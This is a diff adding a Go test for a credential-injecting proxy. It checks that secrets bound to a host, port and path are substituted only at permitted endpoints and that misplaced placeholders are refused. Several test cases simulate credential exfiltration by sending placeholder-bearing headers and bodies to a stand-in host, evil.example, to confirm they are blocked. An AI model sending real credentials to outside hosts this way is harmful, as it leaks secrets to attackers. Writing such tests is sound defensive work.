@@ -206,3 +206,100 @@ func TestCredentialsNeedCA(t *testing.T) {
 		t.Errorf("New with credentials and no CA = %v, want an error", err)
 	}
 }
+
+// pathBinding binds a credential to one host, port and path prefix, as an
+// OpenShell provider's endpoint does.
+type pathBinding struct {
+	host   string
+	port   int
+	prefix string
+}
+
+func (b pathBinding) Serves(host string, port int, path string) bool {
+	return host == b.host && port == b.port && strings.HasPrefix(path, b.prefix)
+}
+
+func (b pathBinding) String() string { return "the endpoint " + b.host + b.prefix }
+
+func (b pathBinding) Denial(host string, port int, method, path string) []byte {
+	return []byte(fmt.Sprintf(`{"error":"credential_endpoint_mismatch","detail":"%s %s:%d%s"}`, method, host, port, path))
+}
+
+// TestCredentialsBound checks a credential bound by host, port and path
+// (an OpenShell provider's, with its own placeholder prefix) beside one
+// of Warden's: each placeholder is replaced only where its credential
+// may go, and a misplaced OpenShell placeholder gets its binding's body.
+func TestCredentialsBound(t *testing.T) {
+	proxytest.ResourceCheck(t)
+	const osSecret = "os-REALSECRET-42"
+	creds := []credential.Credential{
+		{Name: "GITHUB_TOKEN", Value: credential.NewRedacted(osSecret), Prefix: credential.OpenShellPrefix, Binding: pathBinding{"api.example", 443, "/v1/"}},
+		{Name: "GH_TOKEN", Value: credential.NewRedacted(secret), Hosts: []string{"api.example"}},
+	}
+	e := newEnv(t, withCredentials(creds...))
+	var s seen
+	api := e.tlsServer(s.handler("api"))
+	evil := e.tlsServer(s.handler("evil"))
+	e.host("api.example", []string{"203.0.113.1"}, api.Listener.Addr().String(), &hostRule{ports: []int{443}, methods: []string{"GET", "POST"}})
+	e.host("evil.example", []string{"203.0.113.2"}, evil.Listener.Addr().String(), &hostRule{ports: []int{443}, methods: []string{"GET", "POST"}})
+	c := e.client(e.caPool())
+	ph := credential.OpenShellPrefix + "GITHUB_TOKEN"
+	wph := credential.Placeholder("GH_TOKEN")
+	for _, tt := range []struct {
+		name, method, url, header, body string
+		status                          int
+		upstream                        string
+		mismatch                        bool // OpenShell's body
+	}{
+		{name: "bound path", method: "GET", url: "https://api.example/v1/user", header: "Bearer " + ph, status: 200,
+			upstream: fmt.Sprintf("api GET /v1/user auth=%q body=\"\"", "Bearer "+osSecret)},
+		{name: "escaped in the query", method: "GET", url: "https://api.example/v1/q?t=openshell%3Aresolve%3Aenv%3AGITHUB_TOKEN", status: 200,
+			upstream: fmt.Sprintf("api GET /v1/q?t=%s auth=\"\" body=\"\"", osSecret)},
+		{name: "both kinds", method: "GET", url: "https://api.example/v1/x?w=" + wph, header: "Bearer " + ph, status: 200,
+			upstream: fmt.Sprintf("api GET /v1/x?w=%s auth=%q body=\"\"", secret, "Bearer "+osSecret)},
+		{name: "same host, another path", method: "GET", url: "https://api.example/admin", header: "Bearer " + ph, status: 403, mismatch: true},
+		{name: "another host", method: "GET", url: "https://evil.example/v1/user", header: "Bearer " + ph, status: 403, mismatch: true},
+		{name: "streamed body to another host", method: "POST", url: "https://evil.example/v1/c", body: strings.Repeat("a", 100<<10) + ph, status: 403, mismatch: true},
+		{name: "Warden's to another host", method: "GET", url: "https://evil.example/", header: "Bearer " + wph, status: 403},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			s.mu.Lock()
+			s.reqs = nil
+			s.mu.Unlock()
+			var body io.Reader
+			if tt.body != "" {
+				body = strings.NewReader(tt.body)
+			}
+			req, _ := http.NewRequest(tt.method, tt.url, body)
+			if tt.header != "" {
+				req.Header.Set("Authorization", tt.header)
+			}
+			resp, err := c.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			rb, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != tt.status {
+				t.Fatalf("status %d %s, want %d", resp.StatusCode, rb, tt.status)
+			}
+			if got := s.all(); got != tt.upstream {
+				t.Errorf("the upstream saw\n%.300s\nwant\n%s", got, tt.upstream)
+			}
+			if got := strings.Contains(string(rb), "credential_endpoint_mismatch"); got != tt.mismatch {
+				t.Errorf("denial %s: OpenShell's credential_endpoint_mismatch body %v, want %v", rb, got, tt.mismatch)
+			}
+		})
+	}
+	s.mu.Lock()
+	for _, b := range s.aborted {
+		if strings.Contains(b, "openshell:resolve") || strings.Contains(b, osSecret) {
+			t.Errorf("an aborted body reached the upstream with the placeholder")
+		}
+	}
+	s.mu.Unlock()
+	c.Transport.(*http.Transport).CloseIdleConnections()
+	if strings.Contains(e.logs(), osSecret) {
+		t.Errorf("the logs hold the value")
+	}
+}
